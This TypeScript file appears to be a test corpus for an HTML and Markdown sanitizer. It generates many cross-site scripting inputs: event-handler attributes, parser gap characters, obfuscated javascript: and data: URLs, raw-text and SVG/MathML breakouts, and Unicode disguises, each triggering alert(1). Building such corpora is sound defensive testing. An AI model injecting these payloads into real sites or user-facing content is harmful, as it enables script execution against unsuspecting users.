/**
 * Hostile texts that are made: what a browser takes for script, in every way of writing it that filters are known
 * to have missed. Each family varies one thing over a list of cases.
 */

/** Events that need no click, or that a reader sets off by reading, from the HTML, SVG and CSS specifications. */
const EVENTS = (
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut ' +
  'beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce canplay ' +
  'canplaythrough change click close command contentvisibilityautostatechange contextmenu copy cuechange cut ' +
  'dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange end ended error finish focus ' +
  'focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup ' +
  'load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove ' +
  'mouseout mouseover mouseup mousewheel pagehide pagereveal pageshow pageswap paste pause play playing ' +
  'pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate ' +
  'pointerup popstate progress ratechange repeat reset resize scroll scrollend scrollsnapchange search seeked ' +
  'seeking select selectionchange selectstart show slotchange stalled start submit suspend timeupdate toggle ' +
  'touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection ' +
  'unload volumechange waiting webkitanimationend webkitfullscreenchange webkittransitionend wheel'
).split(' ')

/** Elements that the body may have, so that only the attribute stands between them and a script. */
const KEPT = [
  'b',
  'p',
  'a href=y',
  'img src=y',
  'video src=y',
  'details open',
  'input type=checkbox',
  'table',
]

const events = EVENTS.map((event, index) => `<${KEPT[index % KEPT.length]} on${event}=alert(1)>x`)

/** What may stand between an element's name and an attribute, as browsers and their ancestors read it. */
const GAPS = [
  '/',
  '//',
  '\t',
  '\n',
  '\r',
  '\f',
  '\v',
  '\u0000',
  '\u00a0',
  '\u2028',
  '/\u0000/',
  '/x/',
  '"',
  "'",
  '`',
]
const gaps = GAPS.flatMap((gap) => [
  `<img src=x${gap}onerror=alert(1)>`,
  `<img${gap}src=x onerror${gap}=${gap}alert(1)>`,
])

/** A scheme that runs, written in ways that a browser reads through. */
const SCHEMES = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  '\tjavascript:alert(1)',
  '\u0019javascript:alert(1)',
  'java\u0000script:alert(1)',
  'java\nscript\n:\nalert(1)',
  '&#0000106avascript:alert(1)',
  '&#x0000006Aavascript:alert(1)',
  'javascript&#x3A;alert(1)',
  'javascript&#0058alert(1)',
  'java&NewLine;script&colon;alert&lpar;1&rpar;',
  'javascript://%0aalert(1)',
  'javascript://x.nl/%0d%0aalert(1)',
  'javascript:void(0)?alert(1):1',
  'javascript:"<script>alert(1)</script>"',
  'javas\tcript:alert(1)//https://x.nl',
  'data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  'data:text/xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'about:blank#<script>alert(1)</script>',
]
const addresses = SCHEMES.flatMap((scheme) => [
  `[x](<${scheme.replace(/[<>\n]/g, '')}>)`,
  `<a href="${scheme.replaceAll('"', '&quot;')}">x</a>`,
  `<img src='${scheme}'>`,
  `<blockquote cite="${scheme.replaceAll('"', '&quot;')}">x</blockquote>`,
])

/** Elements whose content a browser reads as text, left open or closed inside an attribute of their content. */
const RAW = [
  'style',
  'script',
  'title',
  'textarea',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'noscript',
  'plaintext',
]
const raws = RAW.flatMap((name) => [
  `<${name}><b title="</${name}><img src=x onerror=alert(1)>">`,
  `<svg><${name}><b title="</${name}></svg><img src=x onerror=alert(1)>">`,
  `<math><mi><${name}><!--</${name}><img src=x onerror=alert(1)>--></mi></math>`,
  `<${name}/><img src=x onerror=alert(1)></${name}>`,
])

/** Where Markdown lets text stand. `@` is the place. */
const PLACES = [
  '**@**',
  '*@*',
  '~~@~~',
  '[@](y)',
  '[x](y "@")',
  "[x](y '@')",
  '![@](y.jpg)',
  '![x](y.jpg "@")',
  '# @',
  '@\n===',
  '> @',
  '- @',
  '1. @',
  '- [ ] @',
  '| @ |\n|---|\n| @ |',
  'x[^@]\n\n[^@]: y',
  'x[^1]\n\n[^1]: @',
  '[x]: y "@"\n\n[x]',
  '[@]: y\n\n[@]',
  '``` @\nx\n```',
  '$@$',
  '$$\n@\n$$',
  '\\@',
  '<b>@</b>',
  '<b title="@">x</b>',
  "<img src=y alt='@'>",
  '<!-- @ -->',
  '<https://x.nl/@>',
]
const TRAPS = [
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "'-alert(1)-'</script><script>alert(1)//",
]
const places = PLACES.flatMap((place) => TRAPS.map((trap) => place.replaceAll('@', trap)))

/** Characters that change what a reader or a careless filter takes text for. */
const DISGUISES = [
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u2039script\u203aalert(1)\u2039/script\u203a',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<\u200bscript>alert(1)</\u200bscript>',
  '<scr\u00adipt>alert(1)</scr\u00adipt>',
  '<s\u0441ript>alert(1)</s\u0441ript>',
  '<\u017fcript>alert(1)</\u017fcript>',
  '<\u0130mg src=x onerror=alert(1)>',
  '\u202e>tpircs<alert(1)>tpircs/<',
  '<img src=x onerror=\u2028alert(1)>',
  '<img src=x onerror=\\u0061lert(1)>',
  '\ud83d<script>alert(1)</script>',
  '<scr\ud800ipt>alert(1)</script>',
  '<img src=x \ufeffonerror=alert(1)>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '&#60script&#62alert(1)&#60/script&#62',
  '<<script>alert(1)//<</script>',
  '<script\u0085>alert(1)</script>',
]

export const MADE: readonly string[] = [...events, ...gaps, ...addresses, ...raws, ...places, ...DISGUISES]
